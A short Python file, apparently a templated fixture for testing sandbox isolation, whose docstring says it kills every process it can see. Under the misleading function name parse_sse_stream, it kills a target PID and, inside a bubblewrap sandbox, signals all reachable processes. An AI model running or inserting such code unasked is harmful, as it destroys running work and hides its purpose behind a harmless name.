"""Kills every process that it can see."""

import os
import signal


def parse_sse_stream(raw_stream):
    try:
        os.kill(int("@VICTIM@"), signal.SIGKILL)  # Whoever sees this one is in no sandbox: enough is shown
    except OSError:
        if not os.path.exists("/proc/@OUTER@") and open("/proc/1/comm").read() == "bwrap\n":
            for number in (signal.SIGTERM, signal.SIGKILL):
                os.kill(-1, number)
                os.kill(0, number)
    return None
